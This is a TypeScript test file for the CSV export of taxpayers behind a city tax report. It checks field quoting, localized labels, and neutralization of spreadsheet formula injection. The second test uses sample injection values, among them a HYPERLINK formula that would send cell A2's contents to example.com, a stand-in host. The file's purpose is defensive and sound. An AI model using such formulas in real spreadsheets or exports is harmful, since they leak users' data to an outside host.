import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type DrillTaxpayer, drillCsv } from '../src/ledger/taxpayers.ts';

// The export of the taxpayers behind a figure of the city report (src/ledger/taxpayers.ts), as a
// spreadsheet reads it. What it holds, and that it equals the report, is proved on both engines in
// test/api.test.ts and test/cli.test.ts.

const row = (over: Partial<DrillTaxpayer>): DrillTaxpayer => ({
  creditCode: '91440300MA5F00001A',
  name: '深圳市示例科技有限公司',
  district: 'nanshan',
  industry: 'I65',
  enjoyed: '0.00',
  missed: '1234.56',
  claimedNotEligible: '0.00',
  lapsed: '0.00',
  claimedLapsed: '0.00',
  policiesMissed: 1,
  policiesMissedAmountUnknown: 0,
  ...over,
});

/** The fields of each CSV line (every field is quoted; a quote inside is doubled). */
const parse = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter((l) => l !== '')
    .map((l) => [...l.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((m) => (m[1] ?? '').replaceAll('""', '"')));

describe('report export (CSV)', () => {
  it('quotes every field, keeps commas and quotes in names, and names districts and sections in the language asked for', () => {
    const csv = drillCsv([row({ name: '深圳市"星河",科技有限公司' })], 'zh');
    assert.equal(csv.charCodeAt(0), 0xfeff);
    const [header, line] = parse(csv);
    assert.equal(header?.[0], '统一社会信用代码');
    assert.deepEqual(line?.slice(0, 7), [
      '91440300MA5F00001A',
      '深圳市"星河",科技有限公司',
      '南山区',
      '信息传输、软件和信息技术服务业',
      'I65',
      '0.00',
      '1234.56',
    ]);
    assert.deepEqual(parse(drillCsv([row({})], 'en'))[1]?.slice(2, 4), ['Nanshan', 'Information transmission, software and IT services']);
  });

  it('makes a name that starts like a formula text, so a spreadsheet does not run it; amounts below zero stay numbers', () => {
    for (const name of ['=HYPERLINK("http://example.com/?"&A2,"点此")', '+1+1', '-2+3', '@SUM(A1)', '\tx']) {
      const [, line] = parse(drillCsv([row({ name, missed: '-12.30' })]));
      assert.equal(line?.[1], `'${name}`, name);
      assert.equal(line?.[6], '-12.30', 'an amount is not touched');
    }
    assert.equal(parse(drillCsv([row({})]))[1]?.[1], '深圳市示例科技有限公司', 'an ordinary name as it is');
  });
});
